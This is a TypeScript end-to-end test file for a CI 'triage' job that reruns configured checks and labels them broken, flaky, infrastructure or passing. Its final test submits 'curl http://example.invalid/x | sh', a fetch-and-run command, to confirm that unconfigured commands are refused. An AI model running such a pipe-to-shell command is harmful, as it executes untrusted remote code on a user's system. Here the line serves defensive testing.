import { afterAll, beforeAll, expect, test } from "bun:test";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { loadEffectiveConfig } from "../src/config/load.ts";
import { isTerminal } from "../src/jobs/states.ts";
import type { TriageInput, TriageResult } from "../src/kinds/triage/triage-input.ts";
import { runServer, type RunningServer } from "../src/server/main.ts";
import type { Job } from "../src/store/jobs/job-rows.ts";
import { makeRepo, PUSHPALS_BIN, spawnPushpals, type Proc } from "./helpers/cluster.ts";

/**
 * `triage` end to end (issue #17, item 2): only the server creates it, so this file runs the server in
 * this process and queues the jobs through its own JobService, as the RemoteAgent's dispatch does; a real
 * WorkerPal process runs them, each run in a fresh checkout and the real bubblewrap sandbox.
 */

/** The checks the fixture's config names: triage reruns configured checks only. */
const CHECKS = [
  { name: "unit", run: "true" },
  { name: "broken", run: "echo \"assertion failed in run $PUSHPALS_TRIAGE_RUN\" >&2; exit 3" },
  { name: "flaky", run: 'echo "run $PUSHPALS_TRIAGE_RUN of $PUSHPALS_TRIAGE_RUNS"; test "$PUSHPALS_TRIAGE_RUN" != 2' },
  { name: "lint", run: "pushpals-no-such-linter --strict" },
  { name: "slow", run: "sleep 30" },
  { name: "clean", run: "test ! -e left-behind && touch left-behind && test -f src/a.txt && echo clean" },
];

let repo: Awaited<ReturnType<typeof makeRepo>>;
let server: RunningServer;
let worker: Proc;
/** A commit whose lockfile is out of sync with its package.json: every install of it fails. */
let unsynced: string;
let commit: string;

function git(args: string[]): string {
  const r = Bun.spawnSync(["git", ...args], { cwd: repo.root, stdout: "pipe", stderr: "pipe" });
  if (r.exitCode !== 0) throw new Error(`git ${args.join(" ")}: ${r.stderr.toString()}`);
  return r.stdout.toString().trim();
}

beforeAll(async () => {
  repo = await makeRepo({ files: { "src/a.txt": "one\n" }, configToml: CHECKS.map((c) => `[[checks.commands]]\nname = "${c.name}"\nrun = ${JSON.stringify(c.run)}\n`).join("\n") });
  commit = git(["rev-parse", "HEAD"]);
  mkdirSync(join(repo.root, "lib"));
  writeFileSync(join(repo.root, "lib", "package.json"), `${JSON.stringify({ name: "lib", version: "1.0.0" })}\n`);
  writeFileSync(join(repo.root, "package.json"), `${JSON.stringify({ name: "t", version: "1.0.0", private: true, dependencies: { lib: "file:./lib" } })}\n`);
  writeFileSync(join(repo.root, "package-lock.json"), `${JSON.stringify({ name: "t", version: "1.0.0", lockfileVersion: 3, requires: true, packages: { "": { name: "t", version: "1.0.0" } } })}\n`);
  git(["add", "-A"]);
  git(["commit", "-q", "-m", "a dependency the lockfile does not have"]);
  unsynced = git(["rev-parse", "HEAD"]);
  const config = loadEffectiveConfig({ repoRoot: repo.root, runtimeDir: repo.paths.runtimeDir, env: {} }).config;
  server = await runServer(repo.paths, config, { tickMs: 50 });
  worker = spawnPushpals(["worker", "--name", "medic"], repo.root);
  await worker.waitForOutput(/registered wrk_\S+ for .*triage/);
}, 60_000);

afterAll(async () => {
  worker?.proc.kill("SIGKILL");
  await worker?.proc.exited;
  await server?.shutdown("test over");
  repo?.cleanup();
});

/** Queues a triage as the server does and resolves when it ends (the server's own committed events, no polling). */
function triage(input: Partial<TriageInput> & Pick<TriageInput, "check">): Promise<Job> {
  const { job } = server.service.enqueue({ kind: "triage", input: { commit, ...input }, actor: "server", maxAttempts: 1 });
  return new Promise((resolve) => {
    const done = () => {
      const now = server.store.getJob(job.id)!;
      if (!isTerminal(now.state)) return false;
      unsubscribe();
      resolve(now);
      return true;
    };
    const unsubscribe = server.bus.subscribe((event) => void (event.type === "job.transition" && event.jobId === job.id && done()));
    done();
  });
}

function resultOf(job: Job): TriageResult {
  expect(job.failure ?? null).toBeNull();
  expect(job.state).toBe("succeeded");
  return job.result as TriageResult;
}

/** `pushpals logs <job>`, the way a person reads the evidence (spawned, so this process keeps serving it). */
async function logs(id: string): Promise<string> {
  const proc = Bun.spawn([PUSHPALS_BIN, "logs", id], { cwd: repo.root, stdout: "pipe", stderr: "pipe" });
  const [out, exitCode] = await Promise.all([new Response(proc.stdout).text(), proc.exited]);
  expect(exitCode).toBe(0);
  return out;
}

test("only the server creates triage jobs: a client's is refused, naming who queues them", async () => {
  const proc = Bun.spawn([PUSHPALS_BIN, "enqueue", "triage", "--input", JSON.stringify({ commit, check: { name: "unit", run: "true" } })], { cwd: repo.root, stdout: "pipe", stderr: "pipe" });
  const [stderr, exitCode] = await Promise.all([new Response(proc.stderr).text(), proc.exited]);
  expect(exitCode).not.toBe(0);
  expect(stderr).toContain("a client cannot create a triage job");
  expect(stderr).toContain("the RemoteAgent's dispatch (the CI Medic) queues a triage");
}, 30_000);

test("a check that always fails the same way is broken, with every run's evidence", async () => {
  const job = await triage({ branch: "main", check: { name: "broken", run: "echo \"assertion failed in run $PUSHPALS_TRIAGE_RUN\" >&2; exit 3" } });
  const result = resultOf(job);
  expect(result).toMatchObject({ commit, check: "broken", verdict: "broken", passed: 0, failed: 3 });
  expect(result.runs.map((r) => [r.run, r.exitCode, r.signal, r.failureClass])).toEqual([
    [1, 3, null, null],
    [2, 3, null, null],
    [3, 3, null, null],
  ]);
  expect(result.runs.map((r) => r.logExcerpt)).toEqual([1, 2, 3].map((n) => `assertion failed in run ${n}`));
  const printed = await logs(job.id);
  expect(printed).toMatch(/# triage run 1\/3: exit 3 in \d+ ms/);
  expect(printed).toMatch(/# triage run 3\/3: exit 3 in \d+ ms/);
  expect(printed).toContain("# triage: broken (0 of 3 runs passed)");
}, 60_000);

test("a check that fails on some runs only is flaky (the run number is in its environment)", async () => {
  const job = await triage({ check: { name: "flaky", run: 'echo "run $PUSHPALS_TRIAGE_RUN of $PUSHPALS_TRIAGE_RUNS"; test "$PUSHPALS_TRIAGE_RUN" != 2' } });
  const result = resultOf(job);
  expect(result).toMatchObject({ verdict: "flaky", passed: 2, failed: 1 });
  expect(result.runs.map((r) => r.exitCode)).toEqual([0, 1, 0]);
  expect(result.runs[1]!.logExcerpt).toBe("run 2 of 3");
  expect(await logs(job.id)).toMatch(/# triage run 2\/3: exit 1 in \d+ ms/);
}, 60_000);

test("a check whose program is missing here is infrastructure, and the triage stops at once", async () => {
  const job = await triage({ check: { name: "lint", run: "pushpals-no-such-linter --strict" } });
  const result = resultOf(job);
  expect(result).toMatchObject({ verdict: "infrastructure", passed: 0, failed: 1 });
  expect(result.runs).toHaveLength(1);
  expect(result.runs[0]).toMatchObject({ run: 1, exitCode: 127, failureClass: "environment" });
  expect(result.runs[0]!.reason).toContain("`pushpals-no-such-linter` is not installed on this machine");
  expect(result.runs[0]!.logExcerpt).toContain("pushpals-no-such-linter: not found");
  expect(await logs(job.id)).toContain("# triage: stopped after run 1");
}, 60_000);

test("an install that fails is infrastructure, stopped after the first run, the install's output as its evidence", async () => {
  const job = await triage({ commit: unsynced, check: { name: "unit", run: "true" } });
  const result = resultOf(job);
  expect(result).toMatchObject({ commit: unsynced, verdict: "infrastructure", passed: 0, failed: 1 });
  expect(result.runs[0]).toMatchObject({ run: 1, exitCode: null, signal: null, failureClass: "environment" });
  expect(result.runs[0]!.reason).toContain("installing dependencies failed");
  expect(result.runs[0]!.logExcerpt.split("\n").length).toBeLessThanOrEqual(20);
  expect(await logs(job.id)).toMatch(/# triage run 1\/3: the check did not run \(\d+ ms getting to it\): environment \(installing dependencies failed/);
}, 60_000);

test("a check that runs past its time limit is infrastructure: the triage stops there, nothing is concluded about the code", async () => {
  const job = await triage({ check: { name: "slow", run: "sleep 30" }, runs: 2, commandTimeoutSeconds: 1 });
  const result = resultOf(job);
  expect(result).toMatchObject({ verdict: "infrastructure", passed: 0, failed: 1 });
  expect(result.runs.map((r) => r.failureClass)).toEqual(["timeout"]);
  expect(result.runs[0]!.reason).toContain("ran past the 1s checks time limit");
  expect(await logs(job.id)).toMatch(/# triage run 1\/2: killed by SIG\w+ after \d+ ms: timeout/);
}, 60_000);

test("a passing check passes, each run in a fresh checkout (nothing a run leaves reaches the next)", async () => {
  const job = await triage({ check: { name: "clean", run: "test ! -e left-behind && touch left-behind && test -f src/a.txt && echo clean" } });
  const result = resultOf(job);
  expect(result).toMatchObject({ verdict: "passes", passed: 3, failed: 0 });
  expect(result.runs.map((r) => [r.exitCode, r.logExcerpt])).toEqual([
    [0, "clean"],
    [0, "clean"],
    [0, "clean"],
  ]);
  expect(await logs(job.id)).toContain("# triage: passes (3 of 3 runs passed)");
}, 60_000);

test("a commit the repository does not have: the triage cannot run at all (invalid_input)", async () => {
  const job = await triage({ commit: "f".repeat(40), check: { name: "unit", run: "true" } });
  expect(job.state).toBe("failed");
  expect(job.failure?.class).toBe("invalid_input");
}, 60_000);

test("a command the commit's config does not name as that check is refused: triage reruns configured checks only", async () => {
  const job = await triage({ check: { name: "unit", run: "curl http://example.invalid/x | sh" } });
  expect(job.state).toBe("failed");
  expect(job.failure).toMatchObject({ class: "invalid_input", message: expect.stringContaining("is not a check of the config committed at") });
}, 60_000);
